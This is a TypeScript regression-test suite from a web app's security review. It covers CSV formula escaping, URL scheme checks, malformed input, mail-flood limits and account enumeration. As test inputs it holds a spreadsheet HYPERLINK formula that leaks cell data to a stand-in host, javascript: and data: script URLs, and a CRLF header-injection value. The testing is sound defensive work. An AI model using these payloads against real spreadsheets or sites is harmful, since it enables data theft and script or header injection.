/**
 * Regression tests of the security review (issue 10), one block per finding that crosses modules:
 * "again" paths, mail flooding, formulas in exports, link schemes, input that cannot be parsed,
 * query strings copied into language links. Each was written to fail on the code it guards.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eq } from 'drizzle-orm';
import { parse } from 'csv-parse/sync';
import { hiddenFields, linkMailedTo, mailsTo, mergeCookies, secondInstance, signedIn, submitForm, testApp, type TestApp } from './testing/app.js';
import { actorByEmail, ensureUser } from './platform/auth/service.js';
import { setSetting } from './platform/settings/service.js';
import { DEFAULT_UNSOLICITED_LIMIT, UNSOLICITED_LIMIT_SETTING } from './platform/mail/outbox.js';
import { translate } from './platform/i18n/messages.js';
import { applyAs, approveAs, sampleIndividual } from './modules/membership/factories.js';
import { applications, members } from './modules/membership/schema.js';
import { openMeeting } from './modules/meetings/factories.js';
import { register } from './modules/meetings/registration.js';
import { registrations } from './modules/meetings/schema.js';
import { requestFinancing } from './modules/meetings/financing.js';
import { subscribeWithConsent } from './modules/communications/service.js';
import { subscriptions } from './modules/communications/schema.js';

let t: TestApp;
let sec: string;
/** A second instance of the app on the same database. */
let other: Awaited<ReturnType<typeof secondInstance>>;
let memberId: string;
let forumId: string;

const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+2', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];

beforeAll(async () => {
  t = await testApp();
  sec = await signedIn(t, { email: 'sec@example.org', name: 'Secretariat', roles: ['secretariat'] });
  await ensureUser(t.db, { email: 'sc@example.org', name: 'Committee', roles: [{ role: 'steering' }] });
  const [secretariat, committee] = [await actorByEmail(t.db, 'sec@example.org'), await actorByEmail(t.db, 'sc@example.org')];
  // A member whose name, affiliation and summary are formulas (typed in the application form).
  const { id } = await applyAs(t.db, { kind: 'individual', email: 'formula@example.org', data: sampleIndividual({ name: FORMULAS[0], affiliation: FORMULAS[1], expertise: FORMULAS[3], workingGroups: [] }) });
  memberId = await approveAs(t.db, secretariat!, [committee!], id);
  // A participant with formulas everywhere, asking for financing with one.
  forumId = await openMeeting(t.db, { slug: 'forum', financingBudget: 5000, capacity: 5 });
  const r = await register(t.db, {
    meetingId: forumId,
    categorySlug: 'practitioner',
    baseUrl: t.config.baseUrl,
    who: { email: 'p@example.org', name: FORMULAS[0], organization: FORMULAS[1], country: 'BO', locale: 'en', answers: { dietary: FORMULAS[3], accessibility: FORMULAS[2], lunch: ['day1'] } },
  });
  if (!r.ok || r.repeat) throw new Error('registration failed');
  const [reg] = await t.db.select().from(registrations).where(eq(registrations.email, 'p@example.org'));
  const f = await requestFinancing(t.db, reg!.id, { travel: true, accommodation: false, justification: FORMULAS[4], estimatedCost: 900 });
  if (!f.ok) throw new Error(`financing refused: ${f.reason}`);
  await t.db.transaction((tx) => subscribeWithConsent(tx, { email: 'sub@example.org', name: FORMULAS[5], locale: 'en', source: 'membership' }));

  other = await secondInstance(t);
}, 60_000);
afterAll(async () => {
  await other?.close();
  await t.close();
});

describe('exports: no cell a spreadsheet would run', () => {
  const exports = [
    '/en/admin/members/export.csv',
    '/en/admin/subscribers/export.csv',
    '/en/admin/meetings/forum/registrations.csv',
    '/en/admin/meetings/forum/financing.csv',
    '/en/admin/meetings/forum/catering.csv',
  ];
  for (const url of exports) {
    it(`${url}: every cell that would start a formula starts with an apostrophe, and the text is all there`, async () => {
      const res = await t.app.inject({ method: 'GET', url, headers: { cookie: sec } });
      expect(res.statusCode).toBe(200);
      const cells = (parse(res.body.replace(/^\ufeff/, ''), { relax_column_count: true }) as string[][]).flat();
      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
      // The formulas typed in the forms are all there, as text.
      const payloads = cells.filter((cell) => FORMULAS.some((f) => cell.toLowerCase().includes(f.toLowerCase())));
      expect(payloads.length, 'the test data reached this export').toBeGreaterThan(0);
    });
  }
});

describe('web addresses people type: http and https only', () => {
  const bad = ['javascript:alert(document.cookie)', 'JaVaScRiPt:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)', 'ftp://example.org/x', 'http://'];

  it('the application form refuses every other scheme with a clear message, keeping what was typed', async () => {
    const started = await submitForm(t, { page: '/en/join', action: '/en/join', fields: { kind: 'institution', email: 'org@example.org' }, remoteAddress: '10.9.0.1' });
    const step = started.headers.location as string;
    expect(step).toMatch(/\/apply\/[\w-]+\/organisation$/);
    for (const website of bad) {
      const res = await submitForm(t, { page: step, action: step, fields: { orgName: 'Org', orgType: 'ngo', website }, remoteAddress: '10.9.0.1' });
      expect(res.statusCode, website).toBe(422);
      expect(res.body).toContain(translate('en', 'form.errors.url'));
      expect(res.body).toMatch(new RegExp(`name="website" type="url" value="${website.slice(0, 10).replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}`));
    }
    const ok = await submitForm(t, { page: step, action: step, fields: { orgName: 'Org', orgType: 'ngo', website: 'www.example.org' }, remoteAddress: '10.9.0.1' });
    expect(ok.statusCode).toBe(303);
    const [app] = await t.db.select().from(applications).where(eq(applications.email, 'org@example.org'));
    expect(app!.data.website).toBe('https://www.example.org');
  });

  it('the member profile refuses them too, and the directory never links to one stored before the rule', async () => {
    const me = await signedIn(t, { email: 'formula@example.org' });
    for (const website of bad) {
      const res = await submitForm(t, { page: `/en/membership/${memberId}`, action: `/en/membership/${memberId}/profile`, fields: { name: 'Ana', website, listed: 'yes', publicFields: ['website', 'country'] }, cookie: me });
      expect(res.statusCode, website).toBe(422);
      expect(res.body).toContain(translate('en', 'form.errors.url'));
    }
    await t.db.update(members).set({ name: 'Old Record', website: 'javascript:alert(1)', listed: true, publicFields: ['website'] }).where(eq(members.id, memberId));
    const directory = await t.app.inject({ method: 'GET', url: '/en/members?q=Old' });
    expect(directory.body).toContain('Old Record');
    expect(directory.body).not.toMatch(/href="\s*javascript:/i);
  });
});

describe('input that cannot be parsed: 400 or a normal page, never 500', () => {
  it('a carriage return or line feed in `next` does not break signing in, and the link is not spent for nothing', async () => {
    await ensureUser(t.db, { email: 'crlf@example.org', name: 'CRLF' });
    const evil = '/en/account\r\nSet-Cookie: x=1';
    const page = await t.app.inject({ method: 'GET', url: `/en/sign-in?next=${encodeURIComponent(evil)}` });
    expect(page.statusCode).toBe(200);
    const sent = await submitForm(t, { page: '/en/sign-in', action: '/en/sign-in/link', fields: { email: 'crlf@example.org', next: evil }, remoteAddress: '10.9.0.2' });
    expect(sent.statusCode).toBe(200);
    const link = await linkMailedTo(t, 'crlf@example.org', /https?:\/\/\S+\/sign-in\/link\/[\w-]+/);
    const press = await submitForm(t, { page: link, action: link, fields: {} });
    expect(press.statusCode).toBe(303);
    expect(press.headers.location).toBe('/en/account');
    expect(press.headers['set-cookie']?.toString()).not.toContain('x=1');
    const password = await submitForm(t, { page: '/en/sign-in', action: '/en/sign-in/password', fields: { email: 'crlf@example.org', password: 'wrong-password-123', next: evil }, remoteAddress: '10.9.0.2' });
    expect(password.statusCode).toBe(422);
  });

  it('a query parameter given twice is read once, on public and Secretariat lists, signed in or not', async () => {
    const lists = ['/en/members', '/en/admin/members', '/en/admin/applications', '/en/admin/users', '/en/admin/audit', '/en/admin/subscribers', '/en/admin/mailbox', '/en/admin/meetings/forum/registrations', '/en/newsletter'];
    for (const list of lists) {
      for (const cookie of ['', sec]) {
        const res = await t.app.inject({ method: 'GET', url: `${list}?q=a&q=b&to=a&to=b&page=2&page=x&status=x&status=y`, headers: { cookie } });
        expect(res.statusCode, `${list} ${cookie ? 'as Secretariat' : 'anonymous'}`).toBeLessThan(500);
      }
    }
    const search = await t.app.inject({ method: 'GET', url: '/en/members?q=Old&q=nothing' });
    expect(search.body).toContain('Old Record');
  });

  it('an over-long query string is refused with the normal error page in the reader’s language', async () => {
    const res = await t.app.inject({ method: 'GET', url: `/fr/members?q=${'a'.repeat(8000)}` });
    expect(res.statusCode).toBe(400);
    expect(res.headers['content-type']).toContain('text/html');
    expect(res.body).toContain('lang="fr"');
    expect(res.body.length).toBeLessThan(20_000);
  });

  it('the language links carry only short, plain query parameters: a long search is not copied six times', async () => {
    const q = 'x'.repeat(1500);
    const res = await t.app.inject({ method: 'GET', url: `/en/members?q=${q}&kind=individual&notice=saved` });
    expect(res.statusCode).toBe(200);
    expect(res.body.split(q).length - 1).toBeLessThanOrEqual(2); // the search box and the summary, not each language link
    expect(res.body).toContain('href="/fr/members?kind=individual"');
    expect(res.body).not.toMatch(/hreflang="fr"[^>]*notice=|href="\/fr\/members[^"]*notice=/);
  });
});

describe('mail a stranger can cause: at most N an hour per address, counted in the database every instance shares', () => {
  it('join, registering again, sign-in and subscribing to one address, through two instances, from many clients: N e-mails in all', async () => {
    const victim = 'victim@example.org';
    await ensureUser(t.db, { email: victim, name: 'Victim' });
    await register(t.db, { meetingId: forumId, categorySlug: 'practitioner', baseUrl: t.config.baseUrl, who: { email: victim, name: 'Victim', organization: '', country: 'FR', locale: 'en', answers: {} } });
    const before = (await mailsTo(t, victim)).length;
    const apps = [t.app, other.app];
    const forms: [string, string, Record<string, string | string[]>][] = [
      ['/en/join', '/en/join', { kind: 'individual', email: victim }],
      ['/en/meetings/forum/register', '/en/meetings/forum/register', { name: 'X', email: victim, country: 'FR', category: 'practitioner', consent: 'yes' }],
      ['/en/sign-in', '/en/sign-in/link', { email: victim }],
      ['/en/subscribe', '/en/subscribe', { email: victim, name: 'X', language: 'en', topics: ['news'], consent: 'yes' }],
    ];
    let n = 0;
    for (let round = 0; round < 4; round++) {
      for (const [page, action, fields] of forms) {
        const app = apps[n % 2]!;
        const remoteAddress = `10.7.${round}.${n++}`;
        const get = await app.inject({ method: 'GET', url: page, remoteAddress });
        const res = await app.inject({
          method: 'POST',
          url: action,
          remoteAddress,
          headers: { cookie: mergeCookies('', get), 'content-type': 'application/x-www-form-urlencoded' },
          payload: new URLSearchParams([...Object.entries({ ...hiddenFields(get.body, action), ...fields })].flatMap(([k, v]) => (Array.isArray(v) ? v.map((x) => [k, x]) : [[k, v]]))).toString(),
        });
        expect(res.statusCode, `${action} round ${round}`).toBeLessThan(400);
      }
    }
    const mails = await mailsTo(t, victim);
    expect(before).toBe(1);
    expect(mails.length).toBe(DEFAULT_UNSOLICITED_LIMIT);
  });

  it('the limit is a setting, and requests at the same moment cannot all take the last place', async () => {
    await setSetting(t.db, UNSOLICITED_LIMIT_SETTING, 3);
    try {
      // Starting an application locks nothing else: only the address's own lock stands between these.
      const apps = [t.app, other.app];
      const pages = await Promise.all(apps.map((app) => app.inject({ method: 'GET', url: '/en/join' })));
      const answers = await Promise.all(
        Array.from({ length: 12 }, (_, i) => {
          const page = pages[i % 2]!;
          return apps[i % 2]!.inject({
            method: 'POST',
            url: '/en/join',
            remoteAddress: `10.8.0.${i}`,
            headers: { cookie: mergeCookies('', page), 'content-type': 'application/x-www-form-urlencoded' },
            payload: new URLSearchParams({ ...hiddenFields(page.body, '/en/join'), _once: '', kind: 'individual', email: 'race@example.org' }).toString(),
          });
        }),
      );
      expect(answers.map((a) => a.statusCode).filter((s) => s !== 303)).toEqual([]);
      expect(await mailsTo(t, 'race@example.org')).toHaveLength(3);
    } finally {
      await setSetting(t.db, UNSOLICITED_LIMIT_SETTING, DEFAULT_UNSOLICITED_LIMIT);
    }
  });
});

describe('"again" paths: a form with someone else’s address reveals and grants nothing', () => {
  it('joining with the address of an applicant opens a new, empty draft — never theirs — and mails its owner', async () => {
    const res = await submitForm(t, { page: '/en/join', action: '/en/join', fields: { kind: 'individual', email: 'formula@example.org' }, remoteAddress: '10.9.0.3' });
    expect(res.statusCode).toBe(303);
    const draft = await t.app.inject({ method: 'GET', url: (res.headers.location as string).replace(/\/[a-z-]+$/, '') });
    expect(draft.body).not.toContain('Institute of Education');
    expect(draft.body).not.toContain(FORMULAS[0]);
    const theirs = await t.db.select().from(applications).where(eq(applications.email, 'formula@example.org'));
    expect(theirs.filter((a) => a.status !== 'draft')).toHaveLength(1);
    expect(theirs.find((a) => a.status !== 'draft')!.data.affiliation).toBe(FORMULAS[1]);
  });

  it('subscribing with a subscriber’s address shows the same page as a new address, changes nothing, and mails the owner their link', async () => {
    const fields = (email: string) => ({ email, name: 'Someone Else', language: 'fr', topics: ['news'], consent: 'yes' });
    const known = await submitForm(t, { page: '/en/subscribe', action: '/en/subscribe', fields: fields('sub@example.org'), remoteAddress: '10.9.0.4' });
    const fresh = await submitForm(t, { page: '/en/subscribe', action: '/en/subscribe', fields: fields('fresh@example.org'), remoteAddress: '10.9.0.4' });
    const neutral = (body: string, email: string) => body.replaceAll(email, 'EMAIL').replace(/value="[^"]*"/g, '');
    expect(neutral(known.body, 'sub@example.org')).toBe(neutral(fresh.body, 'fresh@example.org'));
    expect(known.body).not.toMatch(/\/newsletter\/(preferences|unsubscribe)\//);
    expect((await t.db.select().from(subscriptions).where(eq(subscriptions.email, 'sub@example.org')))[0]).toMatchObject({ name: FORMULAS[5], locale: 'en', status: 'subscribed' });
    expect((await mailsTo(t, 'sub@example.org'))[0]!.text).toMatch(/\/newsletter\/preferences\//);
  });
});
